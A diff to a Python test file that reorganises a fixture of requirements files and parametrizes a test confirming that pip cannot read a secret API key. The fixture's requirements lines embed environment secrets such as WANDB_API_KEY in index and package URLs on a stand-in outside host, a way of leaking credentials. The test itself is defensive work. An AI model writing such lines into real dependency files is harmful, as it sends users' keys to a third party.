@@ -1135,18 +1135,25 @@ def test_code_that_is_a_project(spoilt: Container) -> None:
 
 
 LEAKING = {
-    "requirements.txt": "-r nested/more.txt\n-c limits.txt\nhelper==1.0\nlone-one==\x24{WANDB_API_KEY}\n",
-    "nested/more.txt": "--index-url http://\x24{WANDB_API_KEY}@HOST/simple/\n--extra-index-url http://HOST/\x24{COPY}/\n"
-    "--extra-index-url http://ann:\x24{MY_INDEX}@HOST/mine/\nmodel @ http://HOST/\x24{VERTEX_LAUNCH_PLAN}/model-1.0.tar.gz\n",
-    "limits.txt": "helper @ http://HOST/\x24{WANDB_API_KEY}/helper-1.0.tar.gz\n",
+    "an index": {
+        "requirements.txt": "-r nested/more.txt\nhelper==1.0\nlone-one==\x24{WANDB_API_KEY}\n",
+        "nested/more.txt": "--index-url http://\x24{WANDB_API_KEY}@HOST/simple/\n--extra-index-url http://HOST/\x24{COPY}/\n"
+        "--extra-index-url http://ann:\x24{MY_INDEX}@HOST/mine/\n",
+    },
+    "an archive": {
+        "requirements.txt": "-c limits.txt\nhelper==1.0\nlone-one==\x24{WANDB_API_KEY}\n"
+        "model @ http://ann:\x24{MY_INDEX}@HOST/mine/\x24{VERTEX_LAUNCH_PLAN}/model-1.0.tar.gz\n",
+        "limits.txt": "helper @ http://ann:\x24{MY_INDEX}@HOST/mine/\x24{WANDB_API_KEY}/helper-1.0.tar.gz\n",
+    },
 }
 
 
+@pytest.mark.parametrize("leaking", LEAKING)
 @pytest.mark.parametrize("delivery", ["env", "secret"])
-def test_pip_does_not_see_the_key(spoilt: Container, elsewhere: Internet, delivery: str) -> None:
+def test_pip_does_not_see_the_key(spoilt: Container, elsewhere: Internet, delivery: str, leaking: str) -> None:
     host = elsewhere.url.removeprefix("http://")
     spoilt.job()
-    files = {name: text.replace("HOST", host) for name, text in LEAKING.items()}
+    files = {name: text.replace("HOST", host) for name, text in LEAKING[leaking].items()}
     spoilt.code({**files, "train.py": "print('started')"})
     away = {"PIP_NO_INDEX": "", "PIP_FIND_LINKS": "", "PIP_RETRIES": "0", "MY_INDEX": "of-my-own", "COPY": f"k={KEY}"}
     given = {"WANDB_API_KEY": KEY} if delivery == "env" else {}
